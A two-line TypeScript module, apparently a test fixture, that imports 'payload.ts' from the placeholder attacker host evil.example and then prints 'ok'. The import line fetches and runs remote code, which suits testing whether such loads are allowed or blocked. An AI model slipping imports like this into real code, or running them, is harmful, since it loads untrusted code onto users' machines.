import 'https://evil.example/payload.ts'
console.log('ok')
